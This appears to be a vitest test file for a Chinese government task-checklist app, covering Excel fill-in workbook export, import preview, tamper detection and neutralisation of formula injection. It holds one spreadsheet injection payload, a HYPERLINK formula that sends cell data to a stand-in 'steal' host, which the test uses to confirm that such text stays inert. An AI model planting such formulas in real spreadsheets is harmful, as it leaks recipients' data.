// 任务清单 Excel round trip: one department's fill-in workbook out, filled as the department would in
// Excel/WPS, and back in with a row-by-row preview; only valid rows are written, as the importing user.
import { afterEach, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import { fromExcelSafeText } from '../../db/core/xlsx';
import { cellStyle } from '../xlsx-style';
import type { AppError } from '../../shared/errors';
import { ADMIN, newSetupApp, type TestApp } from './helpers';

let app: TestApp;
afterEach(async () => app?.close());

const MARKET_ITEMS = ['2', '4', '5', '7', '8', '10', '11', '12', '13', '14', '16', '18', '23'];
const HEADER = ['序号', '工作任务', '本单位角色', '进展状态', '工作进展', '存在问题', '下一步计划'];
const KEYS = ['任务标识', '单位标识', '年度', '季度'];
const EVIL = '=HYPERLINK("http://example.invalid/steal?d="&A1,"点击查看")';

async function setup(): Promise<{ market: number; health: number }> {
  app = await newSetupApp();
  await app.call('checklist.create', { year: 2026, templateId: 'yuecheng-2020', unresolved: [] });
  const depts = await app.call('departments.list', { includeInactive: true });
  return {
    market: depts.find((d) => d.shortName === '区市场监管局')!.id,
    health: depts.find((d) => d.shortName === '区卫生健康局')!.id,
  };
}

async function exportFor(year: number, quarter: 1 | 2 | 3 | 4, departmentId: number) {
  const file = await app.call('checklist.exportWorkbook', { year, quarter, departmentId });
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(file.base64, 'base64') as unknown as ArrayBuffer);
  const ws = wb.getWorksheet('填报表')!;
  /** The data row of the task with this 序号. */
  const row = (code: string): ExcelJS.Row => {
    for (let r = 5; r <= ws.rowCount; r++) if (ws.getRow(r).getCell(1).value === code) return ws.getRow(r);
    throw new Error(`no row for ${code}`);
  };
  return { file, wb, ws, row };
}

/** Fills a row's four fill-in cells as a department would. */
function fill(row: ExcelJS.Row, status: string, narrative = '', issues = '', nextSteps = ''): void {
  row.getCell(4).value = status;
  row.getCell(5).value = narrative;
  row.getCell(6).value = issues;
  row.getCell(7).value = nextSteps;
}

async function upload(wb: ExcelJS.Workbook, fileName = '填报表.xlsx') {
  return { fileName, base64: Buffer.from(await wb.xlsx.writeBuffer()).toString('base64') };
}

async function auditCount(action: string): Promise<number> {
  const r = await app.db
    .selectFrom('audit_log')
    .select((eb) => eb.fn.countAll<number>().as('n'))
    .where('action', '=', action)
    .executeTakeFirstOrThrow();
  return Number(r.n);
}

describe('checklist fill-in workbook', () => {
  it("exports one department's items with pre-filled progress, a status drop-down, protection and hidden keys", async () => {
    const { market } = await setup();
    const list = (await app.call('checklist.get', { year: 2026 }))!;
    const item13 = list.items.find((i) => i.code === '13')!;
    await app.call('checklist.report', {
      itemId: item13.id,
      departmentId: market,
      quarter: 4,
      status: 'done',
      narrative: '开展双随机联合抽查 2 次',
      issues: '人员不足',
    });
    const { file, wb, ws, row } = await exportFor(2026, 4, market);
    expect(file.fileName).toBe('2026年第四季度任务清单填报表-区市场监管局.xlsx');
    expect(String(ws.getCell('A1').value)).toBe('2026年第四季度部门职责任务落实情况填报表');
    expect(String(ws.getCell('A2').value)).toContain('填报单位：区市场监管局');
    expect(String(ws.getCell('A2').value)).toContain('越城区卫生健康局');
    expect((ws.getRow(4).values as unknown[]).slice(1)).toEqual([...HEADER, ...KEYS]);
    const codes: string[] = [];
    for (let r = 5; r <= ws.rowCount; r++) codes.push(String(ws.getRow(r).getCell(1).value));
    expect(codes).toEqual(MARKET_ITEMS); // none led by 区市场监管局: all 参与, by 序号
    expect(row('2').getCell(3).value).toBe('参与');
    expect(row('13').getCell(4).value).toBe('已完成');
    expect(row('13').getCell(5).value).toBe('开展双随机联合抽查 2 次');
    expect(row('13').getCell(6).value).toBe('人员不足');
    expect(row('2').getCell(4).value).toBeNull();
    // keys: hidden columns on every row, and a very hidden sheet saying whose workbook it is
    expect([8, 9, 10, 11].map((c) => ws.getColumn(c).hidden)).toEqual([true, true, true, true]);
    expect([8, 9, 10, 11].map((c) => row('13').getCell(c).value)).toEqual([item13.id, market, 2026, 4]);
    expect(wb.getWorksheet('填报信息')!.state).toBe('veryHidden');
    // only the fill-in cells are unlocked
    expect(row('13').getCell(4).protection).toMatchObject({ locked: false });
    expect(row('13').getCell(7).protection).toMatchObject({ locked: false });
    expect(row('13').getCell(2).protection?.locked).not.toBe(false);
    expect(row('13').getCell(8).protection?.locked).not.toBe(false);

    // The same, read as plain XML: what Excel and WPS will see.
    const parts = unzipSync(Buffer.from(file.base64, 'base64'));
    const sheet = strFromU8(parts['xl/worksheets/sheet1.xml']!);
    expect(sheet).toContain('<sheetProtection sheet="1"');
    expect(sheet).not.toContain('hashValue'); // no password: protection against accidents only
    expect(sheet).toMatch(
      /<dataValidation type="list"[^>]*sqref="D5:D17"><formula1>&quot;未启动,推进中,已完成,滞后,不适用&quot;<\/formula1>/,
    );
    expect(sheet.match(/<dataValidation /g)).toHaveLength(4); // one per fill-in column, none overlapping
    expect(sheet).toContain('<col min="8" max="9" width="8" hidden="1"');
    expect(strFromU8(parts['xl/worksheets/sheet2.xml']!)).toContain('<sheetProtection sheet="1"');
    expect(strFromU8(parts['xl/styles.xml']!)).toContain('<protection locked="0"/>');
    expect(strFromU8(parts['xl/workbook.xml']!)).toContain('name="填报信息" state="veryHidden"');
  });

  it('previews every row by Excel row number, then applies the valid rows as the importing user', async () => {
    const { market } = await setup();
    const { wb, row } = await exportFor(2026, 4, market);
    fill(row('2'), '推进中', '已与区卫生健康局会商 1 次');
    fill(row('4'), '已完成', '完成医疗美容机构准入梳理', '无', '持续跟踪');
    fill(row('5'), '完成了', '写错了状态');
    const file = await upload(wb);

    const preview = await app.call('checklist.importPreview', file);
    expect(preview).toMatchObject({
      year: 2026,
      quarter: 4,
      department: { id: market, shortName: '区市场监管局' },
      applyCount: 2,
      skipCount: 10,
      errorCount: 1,
    });
    const bad = preview.rows.filter((r) => r.action === 'error');
    expect(bad).toEqual([
      expect.objectContaining({
        rowNumber: row('5').number,
        itemCode: '5',
        itemTitle: '优化医疗服务质量和安全监管',
        statusLabel: '完成了',
        errors: ['进展状态“完成了”无效，应为 未启动、推进中、已完成、滞后 或 不适用'],
      }),
    ]);
    expect(preview.rows.find((r) => r.itemCode === '7')).toMatchObject({ action: 'skip', note: '未填写' });
    expect(await app.call('checklist.progress', { year: 2026, quarter: 4 })).toMatchObject({ reports: [] });

    const audits = await auditCount('checklist.importApply');
    const applied = await app.call('checklist.importApply', file);
    expect(applied).toMatchObject({ applyCount: 2, skipCount: 10, errorCount: 1 });
    const q4 = await app.call('checklist.progress', { year: 2026, quarter: 4 });
    const list = (await app.call('checklist.get', { year: 2026 }))!;
    const byCode = (code: string) =>
      q4.reports.find((r) => r.itemId === list.items.find((i) => i.code === code)!.id);
    expect(q4.reports).toHaveLength(2);
    expect(byCode('2')).toMatchObject({
      departmentId: market,
      status: 'in_progress',
      narrative: '已与区卫生健康局会商 1 次',
      reporterName: ADMIN.displayName,
    });
    expect(byCode('4')).toMatchObject({ status: 'done', issues: '无', nextSteps: '持续跟踪' });
    expect(byCode('5')).toBeUndefined();
    // one audit row per applied report, and one for the import
    expect((await auditCount('checklist.importApply')) - audits).toBe(3);

    // The same file again: the two rows are already in, the bad one still is not; nothing to apply.
    const again = await app.call('checklist.importPreview', file);
    expect(again.rows.filter((r) => r.note === '与已有填报相同').map((r) => r.itemCode)).toEqual(['2', '4']);
    const e = (await app.call('checklist.importApply', file).catch((x: unknown) => x)) as AppError;
    expect(e.code).toBe('IMPORT_INVALID');
    expect(e.message).toContain(`第 ${row('5').number} 行：进展状态“完成了”无效`);
  });

  it('neutralises text that could start a formula, and brings it back unchanged', async () => {
    // Files exported by older versions stored an apostrophe before such text: it still reads back as it was.
    for (const s of ['+1', '-无', '@SUM(A1)', '\tx', '\rx']) expect(fromExcelSafeText(`'${s}`)).toBe(s);
    expect(fromExcelSafeText('开展抽查 =2 次')).toBe('开展抽查 =2 次');
    expect(fromExcelSafeText("'普通文字")).toBe("'普通文字");

    const { market } = await setup();
    const list = (await app.call('checklist.get', { year: 2026 }))!;
    const item = list.items.find((i) => i.code === '13')!;
    await app.call('checklist.report', {
      itemId: item.id,
      departmentId: market,
      quarter: 2,
      status: 'in_progress',
      narrative: EVIL,
    });
    const { file, wb, row } = await exportFor(2026, 2, market);
    // Text as typed, not a {formula} cell and no apostrophe: Excel's quote prefix keeps it text.
    expect(row('13').getCell(5).value).toBe(EVIL);
    const bytes = Buffer.from(file.base64, 'base64');
    const parts = unzipSync(bytes);
    expect(strFromU8(parts['xl/worksheets/sheet1.xml']!)).not.toContain('<f>');
    expect(cellStyle(bytes, 1, row('13').getCell(5).address).quotePrefix).toBe(true);
    expect(cellStyle(bytes, 1, row('13').getCell(2).address).quotePrefix).toBe(false);

    // Sent back untouched: the guarded text is the stored text, so nothing changes.
    const untouched = await app.call('checklist.importPreview', await upload(wb));
    expect(untouched.rows.find((r) => r.itemCode === '13')).toMatchObject({
      action: 'skip',
      note: '与已有填报相同',
    });
    // A file from an older version, with the apostrophe stored in the cell, reads the same.
    row('13').getCell(5).value = `'${EVIL}`;
    const older = await app.call('checklist.importPreview', await upload(wb));
    expect(older.rows.find((r) => r.itemCode === '13')).toMatchObject({ action: 'skip' });
    row('13').getCell(6).value = '跨部门协调难';
    await app.call('checklist.importApply', await upload(wb));
    const q2 = await app.call('checklist.progress', { year: 2026, quarter: 2 });
    expect(q2.reports[0]).toMatchObject({ narrative: EVIL, issues: '跨部门协调难' });

    // A department that typed a formula gets told, rather than having its cell evaluated or dropped.
    row('14').getCell(4).value = '推进中';
    row('14').getCell(5).value = { formula: '-无', result: '#NAME?' } as unknown as ExcelJS.CellValue;
    const typed = await app.call('checklist.importPreview', await upload(wb));
    expect(typed.rows.find((r) => r.itemCode === '14')!.errors[0]).toMatch(/^“工作进展”是公式/);
  });

  it("refuses, row by row, rows from another year's or department's workbook, tampered keys and retired tasks", async () => {
    const { market, health } = await setup();
    const y2026 = (await app.call('checklist.get', { year: 2026 }))!;
    const y2027 = await app.call('checklist.copyForward', { fromYear: 2026, toYear: 2027 });
    const id27 = (code: string) => y2027.items.find((i) => i.code === code)!.id;
    const { wb, ws, row } = await exportFor(2027, 1, market);
    fill(row('2'), '推进中');
    row('2').getCell(10).value = 2026; // the row claims another year
    fill(row('4'), '推进中');
    row('4').getCell(8).value = y2026.items.find((i) => i.code === '4')!.id; // last year's task
    fill(row('5'), '推进中');
    row('5').getCell(8).value = id27('1'); // a task 区市场监管局 has no part in
    fill(row('7'), '推进中');
    row('7').getCell(8).value = null; // key wiped
    fill(row('8'), '推进中');
    row('8').getCell(9).value = health; // a row of 区卫生健康局's workbook
    fill(row('10'), '推进中');
    fill(row('11'), '已完成', 'x'.repeat(4001));
    fill(row('12'), '推进中', '第一次填写');
    fill(row('13'), '推进中', '同一任务再填一行');
    row('13').getCell(8).value = id27('12');
    fill(row('14'), '已完成', '正常的一行');
    await app.call('checklist.setRetired', { itemId: id27('10'), retired: true });
    expect(ws.getRow(4).getCell(8).value).toBe('任务标识');

    const preview = await app.call('checklist.importPreview', await upload(wb));
    const errorsOf = (code: string) => preview.rows.find((r) => r.rowNumber === row(code).number)!.errors;
    expect(errorsOf('2')).toEqual([
      '该行属于其他填报表（2026 年第一季度，区市场监管局），与本表（2027 年第一季度，区市场监管局）不一致',
    ]);
    expect(errorsOf('4')).toEqual(['该行的任务不在 2027 年任务清单中']);
    expect(errorsOf('5')).toEqual(['区市场监管局不是“加强医疗机构党建引领”的责任单位']);
    expect(errorsOf('7')).toEqual(['该行的隐藏标识列缺失或被修改，无法对应到任务']);
    expect(errorsOf('8')).toEqual([
      '该行属于其他填报表（2027 年第一季度，区卫生健康局），与本表（2027 年第一季度，区市场监管局）不一致',
    ]);
    expect(errorsOf('10')).toEqual(['该任务已停用，不能再填报']);
    expect(errorsOf('11')).toEqual(['工作进展不能超过 4000 个字']);
    expect(errorsOf('13')).toEqual([`与第 ${row('12').number} 行是同一项任务，每项任务只能填一行`]);
    expect(preview).toMatchObject({ applyCount: 2, errorCount: 8 });

    const applied = await app.call('checklist.importApply', await upload(wb));
    expect(applied.rows.filter((r) => r.action === 'apply').map((r) => r.itemCode)).toEqual(['12', '14']);
    const q1 = await app.call('checklist.progress', { year: 2027, quarter: 1 });
    expect(q1.reports.map((r) => r.itemId).sort()).toEqual([id27('12'), id27('14')].sort());
    expect((await app.call('checklist.progress', { year: 2026, quarter: 1 })).reports).toEqual([]);
  });

  it('refuses files that are not a fill-in workbook, and a workbook with nothing filled', async () => {
    const { market } = await setup();
    const other = new ExcelJS.Workbook();
    other.addWorksheet('Sheet1').addRow(['单位', '情况']);
    await expect(app.call('checklist.importPreview', await upload(other))).rejects.toThrow(
      '找不到填报表的表头行',
    );
    await expect(
      app.call('checklist.importPreview', {
        fileName: 'a.xlsx',
        base64: Buffer.from('hi').toString('base64'),
      }),
    ).rejects.toThrow('不是有效的 Excel');
    const { wb } = await exportFor(2026, 3, market);
    const e = (await app
      .call('checklist.importApply', await upload(wb))
      .catch((x: unknown) => x)) as AppError;
    expect(e.code).toBe('IMPORT_INVALID');
    expect(e.message).toContain('没有可导入的行（0 行有错误，13 行未填写或无变化）');
    await expect(
      app.call('checklist.exportWorkbook', { year: 2030, quarter: 1, departmentId: market }),
    ).rejects.toThrow('2030 年尚未建立任务清单');
  });
});
